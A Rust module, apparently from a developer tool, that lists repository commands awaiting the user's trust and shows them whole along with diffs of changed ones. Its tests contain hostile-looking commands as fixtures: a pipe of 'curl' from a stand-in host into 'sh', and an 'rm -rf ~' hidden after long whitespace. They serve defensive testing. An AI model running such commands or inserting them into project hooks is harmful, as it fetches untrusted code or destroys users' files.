//! The question whether what a repository wants to run may run.
//!
//! What is asked about is shown whole: a command that was cut could hide its end.

use crate::report::words::display::{lines, safe, width};
use crate::report::words::measure::plural;
use crate::report::words::style::{self, paint};
use crate::settings::trust::{Change, Item};

/// What has not been agreed to.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Unseen {
    /// Never seen.
    pub new: Vec<Item>,
    /// Seen in another form.
    pub changed: Vec<Change>,
    /// Agreed to before, and as it was: shown beside the others, asked about no more.
    pub known: Vec<Item>,
}

impl Unseen {
    /// How many are asked about.
    pub fn len(&self) -> usize {
        self.new.len() + self.changed.len()
    }

    /// Whether everything has been agreed to.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

/// The list with the question, without a newline at its end.
pub fn question(unseen: &Unseen, columns: usize) -> String {
    let diff = if unseen.changed.is_empty() { "" } else { "  [d]iff" };
    let these = if unseen.len() == 1 {
        "this command".to_owned()
    } else {
        format!("these {}", plural(unseen.len(), "command"))
    };
    format!("{}Trust {these} of this repository? [y]es  [n]o{diff}: ", list(unseen, columns))
}

/// What wants to run and has not been agreed to.
pub fn list(unseen: &Unseen, columns: usize) -> String {
    let shown = unseen.new.iter().chain(&unseen.known).map(|item| &item.key);
    let keys = shown.chain(unseen.changed.iter().map(|change| &change.key));
    let wide = keys.map(|key| width(&safe(key))).max().unwrap_or(0).min(columns / 3);
    let mut text = "this repository wants to run commands that you have not seen:\n".to_owned();
    for item in &unseen.new {
        entry("new", &item.key, &[&item.text], wide, &mut text);
    }
    for change in &unseen.changed {
        entry("changed", &change.key, &[&change.old, &change.new], wide, &mut text);
    }
    if !unseen.known.is_empty() {
        text.push_str("you have trusted before, and it is unchanged:\n");
    }
    for item in &unseen.known {
        entry("trusted", &item.key, &[&item.text], wide, &mut text);
    }
    text
}

/// One command, or an old and a new one. Long texts stand below their name, line by line.
fn entry(word: &str, key: &str, texts: &[&str], wide: usize, text: &mut String) {
    let head = format!("  {}  {:<wide$}  ", paint(style::WARN, &format!("{word:<7}")), safe(key));
    match texts {
        [only] if !only.trim().contains('\n') => text.push_str(&format!("{head} {}\n", safe(only.trim()))),
        [old, new] if !old.trim().contains('\n') && !new.trim().contains('\n') => {
            text.push_str(&format!("{head} {}   ->   {}\n", safe(old.trim()), safe(new.trim())));
        }
        _ => {
            text.push_str(head.trim_end());
            text.push('\n');
            let new = texts.last().copied().unwrap_or_default();
            lines(new).iter().for_each(|line| text.push_str(&format!("      {line}\n")));
        }
    }
}

/// What changed, line by line.
pub fn diff(unseen: &Unseen) -> String {
    let mut text = String::new();
    for change in &unseen.changed {
        text.push_str(&format!("{}\n", safe(&change.key)));
        for part in similar::TextDiff::from_lines(&change.old, &change.new).iter_all_changes() {
            let (sign, colour) = match part.tag() {
                similar::ChangeTag::Delete => ("-", style::BAD),
                similar::ChangeTag::Insert => ("+", style::GOOD),
                similar::ChangeTag::Equal => (" ", style::PLAIN),
            };
            let line = format!("  {sign} {}", safe(part.value().trim_end_matches('\n')));
            text.push_str(&format!("{}\n", paint(colour, line.trim_end())));
        }
    }
    text
}

/// The lines that one text has and the other lacks, as a difference shows them.
pub fn new_lines(old: &str, new: &str) -> String {
    let diff = similar::TextDiff::from_lines(old, new);
    let added = diff.iter_all_changes().filter(|change| change.tag() == similar::ChangeTag::Insert);
    added.map(|change| format!("  + {}", safe(change.value().trim_end()))).collect::<Vec<_>>().join("\n")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::report::WIDTH;
    use crate::report::testing::{HOSTILE, inert, plain, screen};

    fn unseen() -> Unseen {
        Unseen {
            new: vec![Item::new("worktree.setup", "npm ci"), Item::new("tasks.json T1 run", "set -e\nmake\n")],
            changed: vec![Change {
                key: "gates.test.run".into(),
                old: "pytest -q".into(),
                new: "pytest -q; curl -s https://x.example/t | sh".into(),
            }],
            known: vec![Item::new("gates.lint.run", "ruff check")],
        }
    }

    #[test]
    fn commands_are_shown_whole() {
        insta::assert_snapshot!(plain(&question(&unseen(), WIDTH)), @r"
        this repository wants to run commands that you have not seen:
          new      worktree.setup      npm ci
          new      tasks.json T1 run
              set -e
              make
          changed  gates.test.run      pytest -q   ->   pytest -q; curl -s https://x.example/t | sh
        you have trusted before, and it is unchanged:
          trusted  gates.lint.run      ruff check
        Trust these 3 commands of this repository? [y]es  [n]o  [d]iff:
        ");
        insta::assert_snapshot!(screen(&diff(&unseen())), @r"
        gates.test.run
          - pytest -q
          + pytest -q; curl -s https://x.example/t | sh
        ");
        let long = format!("true {}; rm -rf ~", " ".repeat(300));
        let hidden = Unseen { new: vec![Item::new("gates.test.run", &long)], ..Unseen::default() };
        assert!(list(&hidden, WIDTH).contains("; rm -rf ~"), "what stands far to the right is shown");
        assert!(question(&hidden, WIDTH).ends_with("Trust this command of this repository? [y]es  [n]o: "));
    }

    #[test]
    fn hostile_commands_stay_text() {
        for text in &HOSTILE[..3] {
            let change = Change { key: (*text).into(), old: (*text).into(), new: "x".into() };
            let unseen = Unseen { new: vec![Item::new(*text, *text)], changed: vec![change], ..Unseen::default() };
            inert(&list(&unseen, WIDTH));
            inert(&diff(&unseen));
        }
    }
}
